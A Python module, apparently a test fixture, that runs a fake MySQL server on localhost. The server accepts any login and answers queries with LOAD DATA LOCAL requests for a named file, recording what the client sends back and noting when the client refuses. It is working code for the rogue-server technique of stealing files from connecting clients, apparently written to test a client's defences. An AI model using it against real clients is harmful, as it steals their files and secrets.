"""A MySQL server that lets everybody in and answers every query by asking for a file of the client's (``LOAD DATA
LOCAL``, https://dev.mysql.com/doc/dev/mysql-server/latest/page_protocol_com_query_response_local_infile_request.html)."""

import contextlib
import socket
import struct
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import IO

_CAPABILITIES = 0x1 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x80000
"""Long passwords, a database, local files, protocol 4.1, transactions, secure connections, plugins."""
_OK = b"\x00\x00\x00\x02\x00\x00\x00"
_GREETING = (
    b"\x0a8.0.0\x00"
    + struct.pack("<I", 1)
    + b"saltsalt\x00"
    + struct.pack("<H", _CAPABILITIES & 0xFFFF)
    + b"\x2d"
    + struct.pack("<HH", 2, _CAPABILITIES >> 16)
    + b"\x15"
    + bytes(10)
    + b"saltsaltsalt\x00"
    + b"mysql_native_password\x00"
)


class PryingMySQL:
    """Asks each client for one file."""

    def __init__(self, wanted: Path) -> None:
        self.asked = 0
        """How often it has."""
        self.received: list[bytes] = []
        """What clients sent of files."""
        self._wanted = wanted
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        """Stop listening."""
        self._listener.close()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                client, _ = self._listener.accept()
                threading.Thread(target=self._pry, args=(client,), daemon=True).start()

    def _pry(self, client: socket.socket) -> None:
        with client, client.makefile("rb") as stream, contextlib.suppress(OSError, struct.error):
            _send(client, 0, _GREETING)
            number, _ = _receive(stream)
            _send(client, number + 1, _OK)
            while True:
                number, command = _receive(stream)
                if command[:1] != b"\x03" or command[1:4].lower() == b"set":  # nothing that could have a result
                    _send(client, number + 1, _OK)
                    continue
                self.asked += 1
                _send(client, number + 1, b"\xfb" + str(self._wanted).encode())
                number, content = _receive(stream)
                if not number:  # another command: it refuses
                    return
                while content:
                    self.received.append(content)
                    number, content = _receive(stream)
                _send(client, number + 1, _OK)


def _send(client: socket.socket, number: int, payload: bytes) -> None:
    client.sendall(struct.pack("<I", len(payload))[:3] + bytes([number]) + payload)


def _receive(stream: IO[bytes]) -> tuple[int, bytes]:
    header = stream.read(4)
    (length,) = struct.unpack("<I", header[:3] + b"\x00")
    return header[3], stream.read(length)


@contextlib.contextmanager
def prying_mysql(wanted: Path) -> Iterator[PryingMySQL]:
    """Run one for the block."""
    server = PryingMySQL(wanted)
    try:
        yield server
    finally:
        server.close()
